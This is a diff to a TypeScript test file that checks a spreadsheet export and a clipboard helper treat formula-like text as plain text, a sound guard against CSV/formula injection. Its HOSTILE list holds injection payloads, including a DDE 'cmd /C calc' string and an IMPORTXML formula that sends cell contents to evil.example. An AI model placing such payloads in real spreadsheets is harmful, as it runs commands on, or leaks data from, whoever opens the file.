@@ -3,7 +3,9 @@ import { join } from 'node:path';
 import { read, utils, type CellObject, type WorkBook } from '@e965/xlsx';
 import { describe, expect, it } from 'vitest';
 import { xlsx } from '../../src/server/archive/xlsx.ts';
+import type { CompiledColumn } from '../../src/kernel/form.ts';
 import { writeBook } from '../../src/widgets/subTable/data/book.ts';
+import { isTextCell } from '../../src/widgets/subTable/grid/clipboard.ts';
 
 /** Texts that a spreadsheet would run, were they not texts. */
 const HOSTILE = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example","点我")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '=IMPORTXML("http://evil.example/?"&A1,"//a")', '|calc', '%0A=1+1', '"=1+1', "'=1+1", '{=1+1}'];
@@ -30,6 +32,12 @@ describe('a text that looks like a formula', () => {
     const blob = await writeBook([{ name: '表', rows: [['内容'], ...HOSTILE.map((text) => [text])], widths: [20] }]);
     expectTexts(read(new Uint8Array(await blob.arrayBuffer()), { cellFormula: true }));
   });
+});
+
+it('a text that is copied from a table is told to be one, a number is not', () => {
+  const column = (tag: string, valueType: string) => ({ node: { tag }, valueType }) as unknown as CompiledColumn;
+  for (const text of HOSTILE.filter((one) => /^\s*[=+\-@]/.test(one))) for (const tag of ['el-input', 'el-select', 'el-cascader', 'userSelector']) expect(isTextCell(column(tag, 'string'), text), `${tag} ${text}`).toBe(true);
+  expect([isTextCell(column('el-input-number', 'double'), '-5'), isTextCell(column('el-select', 'string'), '一月')]).toEqual([false, false]);
 });
 
 const sources = (folder: string): string[] => readdirSync(folder, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? sources(join(folder, entry.name)) : /\.tsx?$/.test(entry.name) ? [join(folder, entry.name)] : []));
